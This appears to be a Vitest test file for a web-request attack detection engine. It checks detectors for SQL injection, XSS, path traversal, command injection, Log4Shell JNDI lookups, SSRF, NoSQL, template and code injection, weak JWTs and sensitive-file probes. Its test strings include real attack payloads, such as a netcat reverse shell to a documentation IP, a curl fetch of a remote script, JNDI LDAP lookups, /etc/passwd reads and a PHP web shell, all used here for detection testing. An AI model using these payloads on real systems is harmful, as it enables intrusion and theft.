import { describe, expect, it } from 'vitest';
import { DETECTORS } from '../../../processors/detection/detectors/index.js';
import { EventView } from '../../../processors/detection/view.js';
import { DEFAULT_EXTRACT_OPTIONS, eventFromFields } from '../../../processors/detection/event.js';
import { detectSqlInjection } from '../../../processors/detection/detectors/sqli.js';
import { detectXss } from '../../../processors/detection/detectors/xss.js';
import { detectTraversal, detectPathTraversal } from '../../../processors/detection/detectors/traversal.js';
import { detectCommandInjection } from '../../../processors/detection/detectors/cmdi.js';
import { detectTemplateInjection } from '../../../processors/detection/detectors/template.js';
import { detectJndi } from '../../../processors/detection/detectors/jndi.js';
import { detectNoSqlInjection } from '../../../processors/detection/detectors/nosql.js';
import { classifyHost, detectSsrf, parseLooseIpv4 } from '../../../processors/detection/detectors/ssrf.js';
import { detectCodeInjection } from '../../../processors/detection/detectors/code.js';
import { detectCredentialsInQuery } from '../../../processors/detection/detectors/credentials.js';
import { judgeJwt } from '../../../processors/detection/detectors/jwt.js';
import { detectSensitiveFile } from '../../../processors/detection/detectors/sensitive.js';
import { detectScannerAgent } from '../../../processors/detection/detectors/scanner.js';
import { globMatches } from '../../../processors/detection/detectors/glob.js';
import { labeledRequests, requestEvent, rowsLabeled } from '../../helpers/attack-corpus.js';

function detects(name: string, fields: Record<string, unknown>): string | undefined {
  const detector = DETECTORS.get(name);
  if (!detector) throw new Error(`no detector ${name}`);
  return detector.detect(new EventView(eventFromFields(fields, Date.UTC(2024, 0, 1))));
}

function recall(name: string, label: string): { hit: number; total: number } {
  const detector = DETECTORS.get(name);
  if (!detector) throw new Error(`no detector ${name}`);
  const rows = rowsLabeled(label);
  const hit = rows.filter((row) => detector.detect(new EventView(requestEvent(row, DEFAULT_EXTRACT_OPTIONS))) !== undefined).length;
  return { hit, total: rows.length };
}

/*
 * Each detector against the rows of the labelled corpus for its attack class. The floors sit
 * just under what the detectors reach today, so a change that loses detections fails here.
 * Rows the corpus cannot show to a log-based detector (such as CrowdSec context lines without a
 * payload) keep the floors under 100%; bench/detection.md lists the misses.
 */
describe('detectors against the labelled corpus', () => {
  it.each([
    ['sqli', 'sqli', 0.92],
    ['xss', 'xss', 0.97],
    ['path_traversal', 'lfi', 0.69],
    ['cmdi', 'rce', 0.79],
    ['jndi', 'log4shell', 1],
    ['ssrf', 'ssrf', 0.75],
    ['code_injection', 'java-injection', 0.7],
    ['code_injection', 'rce-php', 0.33],
    ['sensitive_file', 'scanner-sensitive-files', 0.85],
    ['rfi', 'scanner', 0.65],
  ])('%s finds %s rows', (name, label, floor) => {
    const { hit, total } = recall(name, label);

    expect(hit / total).toBeGreaterThanOrEqual(floor);
  });

  it('finds no attack in benign rows', () => {
    const attackDetectors = [...DETECTORS.values()].filter((detector) => detector.name !== 'credentials_in_query' && detector.name !== 'weak_jwt');
    const flagged: string[] = [];

    for (const row of rowsLabeled('benign')) {
      const view = new EventView(requestEvent(row, DEFAULT_EXTRACT_OPTIONS));
      for (const detector of attackDetectors) {
        const found = detector.detect(view);
        if (found) flagged.push(`${detector.name} ${row.source}: ${found}`);
      }
    }

    expect(flagged).toEqual([]);
  });

  it('reads every row of the corpus', () => {
    const rows = labeledRequests();

    expect(rows).toHaveLength(3299);
    expect(rows.filter((row) => row.label === 'benign')).toHaveLength(625);
  });
});

describe('sqli detector', () => {
  it.each([
    ["1' or '1'='1", 'boolean condition'],
    ['1 union all select null,null--', 'union select'],
    ["admin'--", 'quote then comment'],
    ['1;drop table users--', 'stacked drop statement'],
    ["x' and sleep(5)#", 'boolean condition'],
    ['1 or sleep(5)', 'sleep()'],
    ['1 and extractvalue(1,concat(0x7e,version()))', 'extractvalue()'],
    ["' or 1=1 limit 1 -- -", 'boolean condition'],
    ['unistr(password)::int', '::int cast'],
    ['select @@version', 'select statement'],
  ])('finds %s', (value, shape) => {
    expect(detectSqlInjection(value)).toBe(shape);
  });

  it.each([
    ['1=1', 'numeric tautology'],
    ['b,1=1', 'numeric tautology'],
    ['11!=1', 'numeric tautology'],
    ["';", 'quote probe'],
    ["';print'", 'stacked print'],
    [';truncate[xx', 'stacked truncate statement'],
    [') like (', 'closed parenthesis then condition'],
    ["' or abc!", 'quote then or'],
    ['or 88', 'leading or'],
    ['select pg_sleep', 'select statement'],
    ['except values(1,2)', 'except values'],
    ['2 union all', 'union after a comment'],
    ['xunionselectfrom', 'union select without spaces'],
    ['9999 or {if length((/*!5000select username/*!comment*/', 'mysql executable comment'],
    ["'{\"a\":2}' < '$.c[2].f' = 7", 'chained comparison'],
    ['selectchar(', 'selectchar( probe'],
    ['distinct(', 'distinct( probe'],
    ['select $.`` 1.e.table_name', 'select statement'],
    ['2.2250738585072011e-308', 'floating-point parser denial of service constant'],
  ])('finds the probe %s', (value, shape) => {
    expect(detectSqlInjection(value)).toBe(shape);
  });

  it.each([
    "o'reilly", 'union station', 'drop shipping', 'select a color from the list', "1950's dresses", "y'all come back now", 'rock & roll',
    'size 10 or 12', '2+2=4', 'or 3 more', "don't stop believin'", 'order by price', 'print this page', 'sleep well', "it's 5 o'clock",
    '1 or 2 bedrooms', '50/50', '6\'2" tall', 'x > 5 and y < 10',
  ])('passes %s', (value) => {
    expect(detectSqlInjection(value)).toBeUndefined();
  });
});

describe('xss detector', () => {
  it.each(['<script>alert(1)</script>', '"><svg/onload=alert(1)>', 'javascript:alert(document.cookie)', "' onmouseover=alert(1) x='", '<img src=x onerror=alert(1)>', '+adw-script+ad4-alert(1)+adw-/script+ad4-', '<iframe src="data:text/html,<script>alert(1)</script>">'])('finds %s', (value) => {
    expect(detectXss(value)).toBeDefined();
  });

  it.each(['size <40', 'a<b and c>d', 'tom & jerry', 'online=1', 'cheval($foo)', '<a href="/help">help</a>'])('passes %s', (value) => {
    expect(detectXss(value)).toBeUndefined();
  });
});

describe('path traversal detector', () => {
  it.each(['../../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/shadow', 'file:///etc/passwd', '....//....//etc/hosts', 'c:/boot.ini', 'cat /proc/self/environ'])('finds %s in a value', (value) => {
    expect(detectTraversal(value)).toBeDefined();
  });

  it.each(['images/../logo.png', 'etc/passwords.html', 'docs/guide.pdf'])('passes %s in a value', (value) => {
    expect(detectTraversal(value)).toBeUndefined();
  });

  it('finds a dot-dot segment in the path', () => {
    expect(detectPathTraversal('/static/%2e%2e/app.js', '/static/../app.js')).toContain('parent-directory segment');
  });

  it('finds a hand-encoded question mark ending the query', () => {
    expect(detects('path_traversal', { 'http.request.method': 'GET', 'url.path': '/bar/bar', 'url.query': 'foobar=toto%3f' })).toContain('question mark ending the query');
  });

  it('passes a browser-encoded question ending the query', () => {
    expect(detects('path_traversal', { 'http.request.method': 'GET', 'url.path': '/search', 'url.query': 'q=why%3F' })).toBeUndefined();
  });

  it('finds a Tomcat path parameter climb', () => {
    expect(detectPathTraversal('/tmui/login.jsp/..;/tmui/x.jsp', '/tmui/login.jsp/..;/tmui/x.jsp')).toContain('"..;"');
  });
});

describe('cmdi detector', () => {
  it.each([
    ['127.0.0.1; cat /etc/passwd', 'chained command cat'],
    ['x|nc -e /bin/sh 198.51.100.1 4444', 'chained command nc'],
    ['$(whoami)', 'command substitution'],
    ['`id`', 'command substitution'],
    ['c\\at /e\\tc/pa\\sswd', 'obfuscated command cat'],
    ["'i'fconfig", 'obfuscated command ifconfig'],
    ['{cat,/etc/passwd}', 'brace expansion'],
    ['cat$ifs/etc/passwd', '$IFS'],
    ['/???/??t /???/p??s??', 'glob /???/??t for /bin/cat'],
    ['for /f %g in (list.txt) do type %g', 'batch for loop'],
    ['if exist c:\\boot.ini echo pwned', 'batch if exist'],
    ['powershell -encodedcommand aqbfafga', 'command powershell'],
  ])('finds %s', (value, found) => {
    expect(detectCommandInjection(value)).toBe(found);
  });

  it.each(['salt; time to cook', 'tom & jerry', 'find the best ping pong table', 'cat food', 'apt is gated; call when you get here', 'set 8 -mini as', 'echo dot'])('passes %s', (value) => {
    expect(detectCommandInjection(value)).toBeUndefined();
  });

  it('finds a command in a user agent', () => {
    expect(detectCommandInjection('curl -s http://198.51.100.1/x.sh', true)).toBe('command curl');
  });

  it('passes a product user agent', () => {
    expect(detectCommandInjection('curl/8.5.0', true)).toBeUndefined();
  });

  it.each([
    ['$shell -c "echo hi"', 'command sh'],
    ['${shell} -c "echo hi"', 'command sh'],
    ['alias a=b', 'command alias'],
    ['www.google.com;c$@at+/et$@c/pas$@swd', 'obfuscated command cat'],
    [';\\n.shell nc 10.10.10.1 6666 -e sh\\n', 'chained command .shell'],
    ['a; sh$xx -c whoami', 'obfuscated command sh'],
    ['ping`` 127.0.0.1', 'obfuscated command ping'],
    ['rc script.sh', 'command rc'],
    ['aa-disable php-fpm', 'command aa-disable'],
    ['if "a a" == "a a" echo same', 'batch if comparison'],
    ['if/i a==b foo', 'batch if comparison'],
    ['~+', 'tilde expansion'],
    ['www.google.com;c$$at /et$$c/pas$$swd', 'obfuscated command cat'],
  ])('finds %s', (value, found) => {
    expect(detectCommandInjection(value)).toBe(found);
  });

  it.each([['env --version', 'command env'], ['visudo', 'command visudo'], ['nohup ifconfig', 'command ifconfig'], ['code=ansible-console', 'command ansible-console'], ['docker ps -a', 'command docker']])('finds the user agent %s', (value, found) => {
    expect(detectCommandInjection(value, true)).toBe(found);
  });

  it.each(['wget', 'python-requests/2.32.3', 'Mozilla/5.0 (X11; Linux x86_64)'.toLowerCase(), 'git/2.43.0', 'docker/24.0.7 go/go1.20.10 git-commit/311b9ff', 'docker engine (linux/amd64)', 'git lfs', 'chef infra client'])('passes the user agent %s', (value) => {
    expect(detectCommandInjection(value, true)).toBeUndefined();
  });

  it.each(['python3.10 cmd', ';id', 'ping 10.0.0.1', ';ping'])('finds a command in a cmd parameter: %s', (value) => {
    expect(detectCommandInjection(value, false, 'cmd')).toBeDefined();
  });

  it('finds a command on a later line of a cmd parameter', () => {
    expect(detectCommandInjection('go to store.\nat the store, shop.', false, 'cmd')).toBe('command at in parameter cmd');
  });

  it.each(['top', 'more', 'date'])('passes %s in a parameter named c', (value) => {
    expect(detectCommandInjection(value, false, 'c')).toBeUndefined();
  });

  it.each(['1 union\nselect 1,2', '1 and (sleep(5))', "'||sleep(5)||'", "x'+(select*from(select(sleep(5)))a)+'"])('passes the SQL injection %s', (value) => {
    expect(detectCommandInjection(value)).toBeUndefined();
  });

  it.each(['x;start-process(\'calc\')', "x;nslookup('oast.example')", "x;curl('http://203.0.113.5/x')"])('finds the PowerShell call %s', (value) => {
    expect(detectCommandInjection(value)).toBeDefined();
  });

  it.each(['wake 7; sleep 23', 'baby log (sleep 2)', 'mozilla/5.0 (compatible; sleep 30)', 'ln(2)', 'rm(list = ls())', 'printf("%d", x)', 'base64(x)'])('passes the text %s', (value) => {
    expect(detectCommandInjection(value)).toBeUndefined();
  });

  it('passes sleep in a user agent', () => {
    expect(detectCommandInjection('mozilla/5.0 (compatible; sleep 30)', true)).toBeUndefined();
  });

  it.each(['x;sleep 5s', 'x;sleep 0.5', 'x;sleep 5 #', '127.0.0.1|sleep 10', ';sleep 5;', 'a&&sleep 3', '1\nsleep 5', '1;/bin/sleep 5', `${'a'.repeat(100)};sleep 5`])('finds the sleep probe %s', (value) => {
    expect(detectCommandInjection(value)).toBe('chained command sleep');
  });

  it.each([
    ['1;sleep 5', 'chained command sleep'],
    ['inbox\r\na001 select inbox', 'mail command select after a line break'],
    ['x\r\nrcpt to:<a@example.com>', 'mail command rcpt after a line break'],
  ])('still finds %s', (value, found) => {
    expect(detectCommandInjection(value)).toBe(found);
  });

  it('passes the ActiveSync push request Cmd=Ping', () => {
    expect(detectCommandInjection('ping', false, 'cmd')).toBeUndefined();
  });

  it.each(['pip install requests', 'ls 400 lexus', 'at the store', 'red; green; blue', 'tom & jerry', 'c++ tutorial', '~5 minutes', 'time who knows', 'time flies', 'sudo make me a sandwich', 'who id', 'us$$ price', 'time who', 'time sh', 'time id', 'sudo apt'])('passes the text %s', (value) => {
    expect(detectCommandInjection(value)).toBeUndefined();
  });
});

describe('glob matcher', () => {
  it.each([['/???/??t', '/bin/cat'], ['/e*c/p*d', '/etc/passwd'], ['/etc/pas[s]wd', '/etc/passwd'], ['/etc/[m-z]asswd', '/etc/passwd'], ['/etc/[!abc]asswd', '/etc/passwd']])('matches %s to %s', (pattern, text) => {
    expect(globMatches(pattern, text)).toBe(true);
  });

  it.each([['/???/??t', '/usr/bin/cat'], ['/etc/[abc]asswd', '/etc/passwd'], ['/e*c/x*d', '/etc/passwd']])('does not match %s to %s', (pattern, text) => {
    expect(globMatches(pattern, text)).toBe(false);
  });
});

describe('template injection detector', () => {
  it.each(['{{7*7}}', "{{''.__class__.__mro__}}", '${7*7}', '#{7*7}', '%{(#_memberaccess=@ognl.ognlcontext@default_member_access)}', '<%= 7*7 %>', '${t(java.lang.runtime).getruntime()}', 'class.module.classloader.urls[0]=x', '{% import os %}'])('finds %s', (value) => {
    expect(detectTemplateInjection(value)).toBeDefined();
  });

  it.each(['hello {{first_name}}', '${price}', 'order #{12345}', '<%=title%>'])('passes %s', (value) => {
    expect(detectTemplateInjection(value)).toBeUndefined();
  });
});

describe('jndi detector', () => {
  it.each([
    ['${jndi:ldap://198.51.100.1/a}', 'jndi lookup over ldap'],
    ['${${lower:j}${lower:n}d${lower:i}:rmi://x/a}', 'jndi lookup over rmi (obfuscated)'],
    ['${${::-j}${::-n}${::-d}${::-i}:dns://x/a}', 'jndi lookup over dns (obfuscated)'],
    ['$${env:x:-${env:y:-$}{jndi:ldap://x/a}}}', 'jndi lookup over ldap (obfuscated)'],
    ['$\\u007bjndi:ldap://x/a}', 'jndi lookup over ldap (obfuscated)'],
    ['${script:javascript:java.lang.runtime.getruntime().exec(\'id\')}', 'script lookup'],
  ])('finds %s', (value, found) => {
    expect(detectJndi(value)).toBe(found);
  });

  it.each(['${price}', '${env:home}', 'jndi is a java api'])('passes %s', (value) => {
    expect(detectJndi(value)).toBeUndefined();
  });
});

describe('nosql detector', () => {
  it.each(['password[$ne]', 'user[$regex]', '{"$gt": ""}', "{$where: 'sleep(5000)'}", "'; return true; var x='"])('finds %s', (value) => {
    expect(detectNoSqlInjection(value)).toBeDefined();
  });

  it('finds a javascript condition on the document', () => {
    expect(detectNoSqlInjection('2499999||this.product')).toBe('javascript condition on this');
  });

  it.each(['$50 off', 'price[min]', '{"name": "bob"}', 'this.that || other'])('passes %s', (value) => {
    expect(detectNoSqlInjection(value)).toBeUndefined();
  });
});

describe('ssrf detector', () => {
  it.each([
    ['http://169.254.169.254/latest/meta-data/', 'cloud metadata address 169.254.169.254'],
    ['http://2130706433/', 'loopback address written as 2130706433'],
    ['http://0x7f000001/', 'loopback address written as 0x7f000001'],
    ['http://0177.0.0.1/', 'loopback address written as 0177.0.0.1'],
    ['http://127.1/', 'loopback address written as 127.1'],
    ['http://[::ffff:127.0.0.1]/', 'loopback address ::ffff:127.0.0.1 (IPv4-mapped)'],
    ['http://[::ffff:a9fe:a9fe]/', 'cloud metadata address ::ffff:a9fe:a9fe (IPv4-mapped)'],
    ['http://[::1]:8080/', 'loopback address ::1'],
    ['http://10.0.0.5/', 'private address 10.0.0.5'],
    ['http://public.example@192.168.1.1/', 'private address 192.168.1.1'],
    ['http://metadata.google.internal/computemetadata/v1/', 'cloud metadata host metadata.google.internal'],
    ['http://127.0.0.1.nip.io/', 'wildcard DNS host 127.0.0.1.nip.io'],
    ['gopher://127.0.0.1:6379/_info', 'gopher: scheme'],
    ['file:///etc/passwd', 'file: scheme'],
    ['dict://127.0.0.1:11211/stats', 'dict: scheme'],
  ])('finds %s', (value, found) => {
    expect(detectSsrf(value, false)).toBe(found);
  });

  it('reads a bare host in a URL parameter', () => {
    expect(detectSsrf('localhost:8080/admin', true)).toBe('loopback host localhost');
  });

  it.each(['https://images.example.com/cat.png', 'http://198.51.100.7/', 'mailto:someone@example.com'])('passes %s', (value) => {
    expect(detectSsrf(value, true)).toBeUndefined();
  });

  it.each(['42', 'metadata', 'grid'])('passes the bare value %s', (value) => {
    expect(detectSsrf(value, true)).toBeUndefined();
  });

  it('parses addresses the way inet_aton does', () => {
    expect(parseLooseIpv4('2852039166')).toEqual({ bytes: [169, 254, 169, 254], encoded: true });
    expect(parseLooseIpv4('0xa9.0xfe.0xa9.0xfe')).toEqual({ bytes: [169, 254, 169, 254], encoded: true });
    expect(parseLooseIpv4('192.168.1.1')).toEqual({ bytes: [192, 168, 1, 1], encoded: false });
    expect(parseLooseIpv4('256.1.1.1')).toBeUndefined();
    expect(classifyHost('169.16689662')).toBe('cloud metadata address written as 169.16689662');
  });
});

describe('code injection detector', () => {
  it.each(['system(\'id\');', '<?php echo shell_exec($_get["c"]); ?>', 'o:8:"stdclass":0:{}', '__proto__[admin]=1', 'java.lang.runtime', '${@$b}(12)', 'php://filter/convert.base64-encode/resource=index', '*)(uid=*))(|(uid=*', 'ro0abxnyabfqyxzhlnv0awwuchjpb3jpdhlrdwv1zq'])('finds %s', (value) => {
    expect(detectCodeInjection(value)).toBeDefined();
  });

  it.each(['paper pack (8.5x11)', 'cheval($foo)', 'exec (', 'the system works'])('passes %s', (value) => {
    expect(detectCodeInjection(value)).toBeUndefined();
  });
});

describe('credentials in query detector', () => {
  it('names the parameter, not the value', () => {
    expect(detectCredentialsInQuery([{ name: 'user', value: 'dave' }, { name: 'password', value: 'hunter2' }])).toBe('url.query:password');
  });

  it('finds a JWT under any name', () => {
    expect(detectCredentialsInQuery([{ name: 'state', value: 'eyjhbgcioijiuzi1nij9.eyjzdwiioijhin0.sig' }])).toBe('url.query:state holds a JWT');
  });

  it('passes placeholders', () => {
    expect(detectCredentialsInQuery([{ name: 'password', value: '' }, { name: 'token', value: 'null' }])).toBeUndefined();
  });

  it('finds a session id in the path', () => {
    expect(detects('credentials_in_query', { 'url.path': '/shop/cart;jsessionid=0123456789abcdef' })).toBe('url.path: session id path parameter');
    expect(detects('credentials_in_query', { 'url.path': '/shop/cart;PHPSESSID=0123456789abcdef' })).toBe('url.path: session id path parameter');
  });
});

describe('weak jwt detector', () => {
  const time = Date.UTC(2024, 0, 1);
  const month = 30 * 86_400_000;

  it.each([
    [{ alg: 'none', keyReferences: [], exp: time / 1000 }, 'alg none'],
    [{ alg: 'None', keyReferences: [], exp: time / 1000 }, 'alg none'],
    [{ keyReferences: [], exp: time / 1000 }, 'no alg'],
    [{ alg: 'HS256', keyReferences: [] }, 'no exp'],
    [{ alg: 'RS256', keyReferences: [], exp: time / 1000 + 365 * 86_400 }, 'exp 365 days after the request'],
    [{ alg: 'RS256', keyReferences: ['jku'], exp: time / 1000 }, 'header jku names the verification key'],
  ])('judges %j as %s', (claims, weakness) => {
    expect(judgeJwt(claims, time, month)).toBe(weakness);
  });

  it('passes a short-lived signed token', () => {
    expect(judgeJwt({ alg: 'ES256', keyReferences: [], exp: time / 1000 + 900 }, time, month)).toBeUndefined();
  });

  it('reads a token from a cookie', () => {
    const token = `${Buffer.from('{"alg":"none"}').toString('base64url')}.${Buffer.from('{"sub":"x"}').toString('base64url')}.`;

    expect(detects('weak_jwt', { 'url.path': '/', 'http.request.header.cookie': `theme=dark; session=${token}` })).toBe('http.request.header.cookie:session: alg none');
  });
});

describe('sensitive file and scanner detectors', () => {
  it.each(['/.env', '/.git/config', '/backup.sql.gz', '/wp-config.php.bak', '/actuator/env', '/server-status', '/.aws/credentials', '/site.tar.gz', '/.bash_history'])('finds %s', (path) => {
    expect(detectSensitiveFile(path)).toBeDefined();
  });

  it.each(['/environment', '/.well-known/security.txt', '/downloads/product-1.2.zip', '/static/app.js'])('passes %s', (path) => {
    expect(detectSensitiveFile(path)).toBeUndefined();
  });

  it('names the scanner', () => {
    expect(detectScannerAgent('sqlmap/1.7.2#stable (https://sqlmap.org)')).toBe('sqlmap');
    expect(detectScannerAgent('mozilla/5.0 (x11; linux x86_64; rv:125.0) gecko/20100101 firefox/125.0')).toBeUndefined();
  });
});
